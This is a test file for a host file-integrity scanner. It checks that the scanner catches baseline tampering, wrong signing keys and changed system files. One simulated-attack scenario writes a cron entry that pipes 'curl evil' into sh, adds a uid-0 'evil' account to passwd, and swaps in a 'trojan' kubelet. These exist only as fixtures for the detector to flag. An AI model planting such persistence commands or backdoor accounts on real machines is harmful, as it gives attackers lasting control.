/**
 * The integrity probe through the real scan engine: every check has a passing and a failing scenario (a test
 * below holds the table to that), the metrics are always the three series, the config is validated.
 */
import { describe, it, expect, afterAll } from 'vitest';
import { readFileSync, writeFileSync } from 'node:fs';
import type { Finding } from '../../src/contracts.js';
import { measurementProblem } from '../../src/metrics/probe-metrics.js';
import { integrityProbe } from '../../probes/integrity/index.js';
import { integrityInit } from '../../src/integrity/index.js';
import { CATEGORY_CHECK_IDS } from '../../probes/integrity/checks.js';
import { INTEGRITY_OPTIONS } from '../../probes/integrity/option-spec.js';
import { byCheck, sandbox, scanIntegrity } from './helpers.js';
import { optionsProblem, parsedOptions } from '../helpers/options.js';
import { fsClockTick } from '../helpers/wait.js';
import type { Sandbox } from './helpers.js';

const boxes: Sandbox[] = [];
afterAll(() => boxes.forEach((b) => b.cleanup()));

const TREE = {
  'etc/ssh/sshd_config': 'PasswordAuthentication no\n',
  'etc/kubernetes/kubelet.conf': 'apiVersion: v1\n',
  'etc/containerd/config.toml': 'version = 2\n',
  'etc/passwd': 'root:x:0:0::/root:/bin/sh\n',
  'etc/crontab': '# m h dom mon dow user command\n',
  'usr/bin/kubelet': 'ELF kubelet\n',
};

const POLICY_YAML = `version: 1
rules:
  - {path: /etc/ssh, properties: config, category: ssh}
  - {path: /etc/kubernetes, properties: config, category: kubernetes}
  - {path: /etc/containerd, properties: config, category: runtime}
  - {path: /etc/passwd, properties: config, category: accounts}
  - {path: /etc/crontab, properties: config, category: persistence}
  - {path: /usr/bin, properties: binaries, category: binaries}
`;

/** What each scenario does to a fresh sandbox, and the probe config it scans with. */
type Scenario = (s: Sandbox) => Promise<Record<string, unknown>>;

async function run(scenario: Scenario): Promise<Map<string, Finding>> {
  const s = sandbox(TREE);
  boxes.push(s);
  writeFileSync(`${s.state}/policy.yaml`, POLICY_YAML);
  const config = await scenario(s);
  const report = await scanIntegrity(s.root, { db: s.db, policy: `${s.state}/policy.yaml`, ...config });
  expect(report.probes[0]!.status).toBe('ok');
  const m = report.measurements;
  expect(m.map((x) => x.labels.change)).toEqual(['added', 'removed', 'modified']);
  for (const x of m) expect(measurementProblem(x)).toBeUndefined();
  return byCheck(report);
}

const base = (s: Sandbox, keyFile: string | null = s.key) =>
  integrityInit({ root: s.root, policy: `${s.state}/policy.yaml`, dbFile: s.db, keyFile });

const SCENARIOS: Record<string, Scenario> = {
  clean: async (s) => {
    await base(s);
    return { keyFile: s.key };
  },
  noBaseline: async (s) => ({ keyFile: s.key }),
  noKey: async (s) => {
    await base(s, null);
    return {};
  },
  tampered: async (s) => {
    await base(s);
    writeFileSync(s.db, readFileSync(s.db, 'utf8').replace('sshd_config","f",420', 'sshd_config","f",438'));
    return { keyFile: s.key };
  },
  otherKey: async (s) => {
    await base(s, s.otherKey);
    return { keyFile: s.key };
  },
  everythingChanged: async (s) => {
    await base(s);
    await fsClockTick(); // times written from here on differ from the baseline's
    writeFileSync(s.at('etc/ssh/sshd_config'), 'PasswordAuthentication yes\n');
    writeFileSync(s.at('etc/kubernetes/kubelet.conf'), 'apiVersion: v2\n');
    writeFileSync(s.at('etc/containerd/config.toml'), 'version = 3\n');
    writeFileSync(s.at('etc/passwd'), 'root:x:0:0::/root:/bin/sh\nevil:x:0:0::/:/bin/sh\n');
    writeFileSync(s.at('etc/crontab'), '* * * * * root curl evil | sh\n');
    writeFileSync(s.at('usr/bin/kubelet'), 'ELF kubelet (trojan)\n');
    writeFileSync(s.at('usr/bin/new-tool'), 'x');
    return { keyFile: s.key };
  },
};

const results = new Map<string, Map<string, Finding>>();
async function scenario(name: string): Promise<Map<string, Finding>> {
  if (!results.has(name)) results.set(name, await run(SCENARIOS[name]!));
  return results.get(name)!;
}

/** Check id -> [scenario where it passes, scenario where it fails]. */
const PASS_FAIL: Record<string, [string, string]> = {
  'integrity.baseline_present': ['clean', 'noBaseline'],
  'integrity.baseline_signed': ['clean', 'noKey'],
  'integrity.baseline_valid': ['clean', 'tampered'],
  'integrity.files_unchanged': ['clean', 'everythingChanged'],
  ...Object.fromEntries(CATEGORY_CHECK_IDS.map((id) => [id, ['clean', 'everythingChanged'] as [string, string]])),
};

describe('each integrity check has a passing and a failing case', () => {
  it('the table covers every check', () => {
    expect(Object.keys(PASS_FAIL).sort()).toEqual(integrityProbe.checks.map((c) => c.id).sort());
  });

  for (const [id, [passing, failing]] of Object.entries(PASS_FAIL)) {
    it(`${id}: pass (${passing}) and fail (${failing})`, async () => {
      const p = (await scenario(passing)).get(id)!;
      expect(p.status, p.message).toBe('pass');
      const f = (await scenario(failing)).get(id)!;
      expect(f.status, f.message).toBe('fail');
      expect(f.message.length).toBeGreaterThan(10);
    });
  }
});

describe('what the findings say', () => {
  it('a tampered baseline is a critical failure, and the files are not compared against it', async () => {
    const m = await scenario('tampered');
    expect(m.get('integrity.baseline_valid')).toMatchObject({ status: 'fail', severity: 'critical' });
    expect(m.get('integrity.baseline_valid')!.message).toContain('HMAC does not verify');
    expect(m.get('integrity.files_unchanged')!.status).toBe('unknown');
  });

  it('a baseline signed with another key fails signed and valid', async () => {
    const m = await scenario('otherKey');
    expect(m.get('integrity.baseline_valid')!.status).toBe('fail');
    expect(m.get('integrity.baseline_signed')!.message).toContain('signed with another key');
  });

  it('no baseline: present fails, the rest skip or stay unknown (no auto-init)', async () => {
    const m = await scenario('noBaseline');
    expect(m.get('integrity.baseline_present')!.message).toContain('no baseline database');
    expect(m.get('integrity.baseline_valid')!.status).toBe('skip');
    expect(m.get('integrity.files_unchanged')!.status).toBe('unknown');
  });

  it('changes are listed with bounded evidence and routed to their category', async () => {
    const m = await scenario('everythingChanged');
    const all = m.get('integrity.files_unchanged')!;
    expect(all.message).toMatch(/^7 modified, 1 added, 0 removed since the baseline of /);
    expect(all.evidence).toContainEqual({ file: '/etc/ssh/sshd_config', text: 'modified: content' });
    expect(all.evidence).toContainEqual({ file: '/usr/bin/new-tool', text: 'added' });
    const ssh = m.get('integrity.ssh_unchanged')!;
    expect(ssh.evidence.map((e) => e.file)).toEqual(['/etc/ssh/sshd_config']);
    const bins = m.get('integrity.binaries_unchanged')!;
    expect(bins.evidence.map((e) => e.file).sort()).toEqual(['/usr/bin', '/usr/bin/kubelet', '/usr/bin/new-tool']);
  });

  it('the metric has the three series with the counts, 0 when nothing changed', async () => {
    const s = sandbox(TREE);
    boxes.push(s);
    writeFileSync(`${s.state}/policy.yaml`, POLICY_YAML);
    await base(s);
    await fsClockTick(); // times written from here on differ from the baseline's
    writeFileSync(s.at('usr/bin/new-tool'), 'x');
    const r = await scanIntegrity(s.root, { db: s.db, policy: `${s.state}/policy.yaml`, keyFile: s.key });
    expect(r.measurements.map((x) => [x.labels.change, x.value])).toEqual([
      ['added', 1],
      ['removed', 0],
      ['modified', 1], // /usr/bin itself (mtime, ctime)
    ]);
  });

  it('a policy whose rules have no category skips the category checks', async () => {
    const s = sandbox(TREE);
    boxes.push(s);
    writeFileSync(`${s.state}/policy.yaml`, 'rules:\n  - {path: /etc, properties: config}\n');
    await base(s);
    const report = await scanIntegrity(s.root, { db: s.db, policy: `${s.state}/policy.yaml`, keyFile: s.key });
    expect(report.probes[0]).toMatchObject({ status: 'ok' });
    const m = byCheck(report);
    expect(m.get('integrity.ssh_unchanged')!.status).toBe('skip');
    expect(m.get('integrity.files_unchanged')!.status).toBe('pass');
  });
});

describe('configuration', () => {
  it('validates keys with messages naming them, and takes defaults from the environment', () => {
    const problem = (raw: unknown) => optionsProblem(integrityProbe, raw);
    expect(problem({ rehashSlices: 0 })).toMatch(/^rehashSlices: must be an integer from 1/);
    expect(problem({ db: 'relative.db' })).toMatch(/^db: must be an absolute path/);
    expect(problem({ keyfile: '/k' })).toMatch(/^keyfile: unknown key/);
    expect(problem({})).toBeUndefined();
    const env = { HOSTWARD_STATE_DIR: '/state', HOSTWARD_INTEGRITY_KEY_FILE: '/secret/key' };
    const o = parsedOptions(INTEGRITY_OPTIONS, {}, { env });
    expect(o).toMatchObject({ db: '/state/integrity.db', keyFile: '/secret/key', rehashSlices: 24 });
    expect(parsedOptions(INTEGRITY_OPTIONS, {}).db).toBe('/var/lib/hostward/integrity.db');
  });
});
